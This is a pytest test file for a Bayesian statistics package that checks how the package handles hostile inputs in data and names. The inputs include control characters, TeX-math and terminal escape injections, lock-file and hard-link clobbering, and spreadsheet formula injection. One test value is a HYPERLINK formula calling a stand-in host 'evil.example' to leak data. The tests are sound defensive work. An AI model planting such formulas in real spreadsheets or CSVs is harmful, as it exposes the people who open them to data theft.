"""Hostile inputs found in the seventeenth round: each stopped a run or damaged a report."""

from __future__ import annotations

import pandas as pd
import pytest

from ipsbayes.cli import main
from ipsbayes.report.tables import write_xlsx
from ipsbayes.textutil import control_pictures


def test_control_characters_become_their_pictures() -> None:
    assert control_pictures("S\x07one\x00\x1f\x7f") == "S\u2407one\u2400\u241f\u2421"
    assert control_pictures("tab\tline\nreturn\r") == "tab\tline\nreturn\r"  # allowed in worksheets and HTML


def test_a_worksheet_takes_control_characters_in_cells_and_headers(tmp_path) -> None:
    """openpyxl refuses a cell holding a control character (IllegalCharacterError)."""
    frame = pd.DataFrame({"group\x01": ["S\x07one", "plain"], "rate": [1.5, float("nan")], "headline": [True, False]})
    write_xlsx(tmp_path / "t.xlsx", {"summary": frame})
    back = pd.read_excel(tmp_path / "t.xlsx")
    assert back.columns.tolist() == ["group\u2401", "rate", "headline"]
    assert back["group\u2401"].tolist() == ["S\u2407one", "plain"]
    assert back["rate"].iloc[0] == 1.5 and back["headline"].tolist() == [True, False]
    assert frame.columns[0] == "group\x01"  # the caller's table is left as it was


@pytest.mark.sampling
def test_a_group_name_with_a_control_character_gives_a_whole_run(make_config, data_copy, tmp_path) -> None:
    """A service named 'S\\x07one' in the data stopped the run after sampling, while writing summary.xlsx."""
    for name in ("participants", "services"):
        path = data_copy / f"{name}.csv"
        table = pd.read_csv(path, dtype=str)
        first = table["service"].iloc[0]
        for column in [c for c in ("service", "specialist") if c in table]:
            table[column] = table[column].str.replace(first, "S\x07one", regex=False)
        table.to_csv(path, index=False)
    changes = {"sampler.profile": "ci", "sampler.draws": 100, "sampler.tune": 100, "sensitivity.prior_sets": []}
    config = make_config("ipsung_employment", data=data_copy, **changes)
    assert main(["run", str(config), "--out", str(tmp_path / "run"), "--quiet"]) == 0
    run = tmp_path / "run"
    for report in ("report.html", "report.md"):
        text = (run / report).read_text()
        assert "\x07" not in text and "S\u2407one" in text, report
    sheet = pd.read_excel(run / "summary.xlsx", sheet_name="summary")
    assert sheet["element"].astype(str).str.contains("S\u2407one").any()
    assert "S\x07one" in (run / "summary.csv").read_text()  # the CSV keeps the data's own name


def test_pandoc_math_sub_and_superscript_are_escaped_and_the_html_shows_them_plainly() -> None:
    """'$\\input{x}$' in a label reached LaTeX through pandoc's TeX math; '~', '^' made sub/superscripts."""
    from ipsbayes.report.html import markdown_to_html
    from ipsbayes.textutil import escape_md

    value = "S$\\input{x}$ H~2~O 2^10^ a|b"
    escaped = escape_md(value)
    assert escaped == "S\\$\\\\input{x}\\$ H\\~2\\~O 2\\^10\\^ a\\|b"
    assert markdown_to_html(escaped) == f"<p>{value}</p>"
    assert escape_md("y ~ x, 5 $ each, a ^ b") == "y ~ x, 5 $ each, a ^ b"  # spaced: nothing opens or closes
    table = f"| group | rate |\n| --- | --- |\n| {escaped} | 1 |\n"
    assert f"<td>{value}</td>" in markdown_to_html(table)


def test_a_dollar_sign_in_a_name_is_drawn_as_written_not_as_mathtext() -> None:
    """An unbalanced '$x_{1$' in a group name stopped the run after sampling (matplotlib's mathtext parser)."""
    import io

    import matplotlib
    import matplotlib.pyplot as plt

    from ipsbayes.present.style import Style

    with matplotlib.rc_context(Style("eti", 0.9).rc()):
        fig, ax = plt.subplots()
        ax.set_yticks([0, 1], ["S$x_{1$one", "$\\alpha$"])
        ax.set_title("$x_{1$")
        buffer = io.BytesIO()
        fig.savefig(buffer, format="svg")
        plt.close(fig)
    svg = buffer.getvalue().decode()
    assert "S$x_{1$one" in svg and "$\\alpha$" in svg


def test_a_users_file_at_the_lock_files_name_is_never_overwritten(tmp_path) -> None:
    """'.run.ipsbayes-lock' of the user's was truncated, overwritten with the lock's JSON and deleted; a hard link
    there overwrote the file it links to."""
    from ipsbayes.errors import OutputError
    from ipsbayes.output_lock import acquire, lock_path

    target = tmp_path / "run"
    lock = lock_path(target)
    lock.write_text("my notes\n")
    with pytest.raises(OutputError, match="is in the way"):
        acquire(target, "run")
    assert lock.read_text() == "my notes\n"
    lock.unlink()
    important = tmp_path / "important.txt"
    important.write_text("keep me\n")
    lock.hardlink_to(important)
    with pytest.raises(OutputError, match="is in the way"):
        acquire(target, "run")
    assert important.read_text() == "keep me\n" and lock.exists()
    lock.unlink()
    lock.write_text('{"pid": 12345, "started": 1.0, "command": "ipsbayes run x"}\n')  # left by a killed command
    held = acquire(target, "run")
    held.release()
    assert not lock.exists()


def test_only_ipsbayess_own_staging_folders_are_removed_as_stale(tmp_path) -> None:
    """A user's folder '.run.staging-1234abcd' was deleted with everything in it by the next run into 'run'."""
    from ipsbayes.output import claim_output

    users = tmp_path / ".run.staging-1234abcd"
    users.mkdir()
    (users / "thesis.tex").write_text("years of work")
    killed = claim_output(tmp_path / "run", kind="run")  # a command killed before it placed its folder
    (killed.staging / "half.png").write_bytes(b"x")
    killed.lock.release()
    again = claim_output(tmp_path / "run", kind="run")
    try:
        assert not killed.staging.exists() and (users / "thesis.tex").read_text() == "years of work"
    finally:
        again.release()
    done = claim_output(tmp_path / "done", kind="run")
    (done.staging / "a.txt").write_text("a")
    folder = done.place()
    assert (folder / "a.txt").exists() and not (folder / ".ipsbayes-staging").exists()  # the mark is not placed


def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path) -> None:
    """Group ids '=1+2' and '=HYPERLINK(...)' became live formulas in summary.xlsx and the CSVs (outside review)."""
    import openpyxl

    from ipsbayes.report.tables import csv_nb, csv_text

    link = '=HYPERLINK("http://evil.example/?leak","click me")'
    frame = pd.DataFrame(
        {"element": [link, "+1 SD", "-cmd", "@SUM(A1)", "plain"], "median": [-1.5, 2.0, 3.0, 4.0, 5.0]}
    )
    text = csv_text(frame)
    assert "'=HYPERLINK" in text and "'+1 SD" in text and "'-cmd" in text and "'@SUM" in text
    assert "\nplain,5" in text and "-1.5" in text and "'-1.5" not in text  # numbers keep their sign
    assert "'=HYPERLINK" in csv_nb(frame).decode("utf-8-sig")
    assert frame["element"].iloc[0] == link  # the caller's table is unchanged
    write_xlsx(tmp_path / "t.xlsx", {"summary": frame})
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["summary"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == link  # text, exactly as written
    assert sheet["B2"].value == -1.5


@pytest.mark.parametrize(
    "content", [b"\0" * 200_000, b'participant_id,"month,x\n' + b"a" * 140_000 + b"\n"], ids=["nul", "open-quote"]
)
def test_a_header_the_csv_reader_cannot_take_is_a_data_error_naming_the_file(tmp_path, content: bytes) -> None:
    """A stray quote in the header of a file over 128 KB, or a file of NUL bytes, ended with exit 1."""
    from ipsbayes.data_read import read_table
    from ipsbayes.errors import DataError

    path = tmp_path / "participants.csv"
    path.write_bytes(content)
    with pytest.raises(DataError, match=r"participants\.csv: the header line cannot be read"):
        read_table(path, "participants")


def multilevel_config(folder, header: str, rows: list[str], formula: str):
    """A ``kind = "multilevel"`` config on ``d.csv`` (``header`` and ``rows``) in ``folder``; its path."""
    (folder / "d.csv").write_text(header + "\n" + "\n".join(rows) + "\n")
    config = folder / "c.toml"
    config.write_text(f'name = "d"\n[data]\nmain = "d.csv"\n[model]\nkind = "multilevel"\nformula = "{formula}"\n')
    return config


def test_quoted_decimal_comma_numbers_in_a_comma_file_are_named_not_fitted_as_a_category(tmp_path, capsys) -> None:
    """'"11,5"' in a comma-separated file made years_schooling a 16-level factor without a word (outside review)."""
    rows = [f'{i},"{10 + i % 7},5",g{i % 5},{i % 2}' for i in range(40)]
    config = multilevel_config(tmp_path, "id,x,g,y", rows, "y ~ x + (1 | g)")
    assert main(["check", str(config)]) == 2
    err = capsys.readouterr().err
    assert "column 'x' holds numbers written with a decimal comma" in err and "a category with 7 levels" in err
    config.write_text(config.read_text().replace('main = "d.csv"', 'main = "d.csv"\ndecimal = ","'))
    assert main(["check", str(config)]) == 0  # the way out the message gives: read as numbers


def test_a_missing_value_message_says_which_cells_are_missing(tmp_path, capsys) -> None:
    """Cells reading 'NA' in a herd column were 'missing values' with no word on why (ids are read as written)."""
    rows = [f"{i},{'NA' if i < 3 else f'h{i % 4}'},{i % 2}" for i in range(30)]
    assert main(["check", str(multilevel_config(tmp_path, "id,herd,y", rows, "y ~ (1 | herd)"))]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "column 'herd' has 3 missing value(s)" in err and "one that reads NA, N/A, NaN, None, null or #N/A" in err


def test_backticked_category_columns_keep_their_whole_names_in_coefficient_labels() -> None:
    """C(`grp a`) + C(`grp b`): both columns' coefficients were labelled 'grp[2]' and 'grp[3]' (outside review)."""
    import numpy as np

    from ipsbayes.models.design import Design

    rng = np.random.default_rng(0)
    frame = pd.DataFrame(
        {"y": rng.integers(0, 2, 60), "grp a": rng.integers(1, 4, 60), "grp b": rng.integers(1, 4, 60)}
        | {"num x": rng.normal(size=60), "diagnosis": rng.choice(["a", "b", "c"], 60)}
    )
    formula = "y ~ C(`grp a`) + C(`grp b`, Treatment(2)) + `num x` + C(diagnosis, Treatment('b'))"
    labels = Design(formula, frame).labels
    assert labels == ["grp a[2]", "grp a[3]", "grp b[1]", "grp b[3]", "num x", "diagnosis[a]", "diagnosis[c]"]


def test_a_prior_set_path_that_is_a_folder_or_device_says_so(tmp_path) -> None:
    """'no prior set named 'evil6' (did you mean 'evil6'?)' when priors/evil6.toml was a folder (outside review)."""
    import os

    from ipsbayes.priors import available_sets, resolve_prior_set

    (tmp_path / "evil6.toml").mkdir()
    os.symlink("/dev/zero", tmp_path / "evil7.toml")
    (folder_problem,) = resolve_prior_set("evil6", {"a": "x"}, search_dirs=[tmp_path])[1]
    (device_problem,) = resolve_prior_set("evil7", {"a": "x"}, search_dirs=[tmp_path])[1]
    assert "evil6.toml is a folder" in folder_problem and "did you mean" not in folder_problem
    assert "character device" in device_problem
    assert available_sets([tmp_path]) == []


def test_terminal_control_sequences_from_the_data_are_printed_as_text() -> None:
    """A group id '\\x1b[2J\\x1b[31m' cleared the screen when a diagnostics line named it (outside review)."""
    from ipsbayes.textutil import clean_message

    assert (
        clean_message("herd \x1b[2J\x1b[31m: R-hat np.float64(1.02)\n\tnext")
        == "herd \\x1b[2J\\x1b[31m: R-hat 1.02\n\tnext"
    )


def test_group_ids_are_shown_as_written_in_the_reports_tables() -> None:
    """'S_01' and 'S 01' both printed as 'S 01' (underscores made spaces), so two services looked like one."""
    import numpy as np
    import xarray as xr

    from ipsbayes.report.tables import labelled, summarise

    services = ["S_01", "S 01", "north_vs_south"]
    rng = np.random.default_rng(1)
    rate = xr.DataArray(
        rng.normal(40, 2, (2, 50, 3)), dims=("chain", "draw", "service"), coords={"service": services}
    ).assign_attrs(label="Rate per service", unit="%")
    sd = xr.DataArray(rng.gamma(2, 0.2, (2, 50)), dims=("chain", "draw")).assign_attrs(
        label="SD of service effects", unit="SD (log-odds)", group="service"
    )
    estimands = xr.Dataset({"service_rate": rate, "sd_service": sd})
    from ipsbayes.present.context import verbatim_words
    from ipsbayes.present.phrases import readable

    words = {w: w for w in verbatim_words(estimands)}  # what the report's estimand table reads elements with
    assert [readable(s, words) for s in services] == services
    for language in ("en", "nb"):
        table = labelled(summarise(estimands, "eti", 0.9), estimands, language)
        assert set(services) <= set(table["element"]), table["element"].tolist()
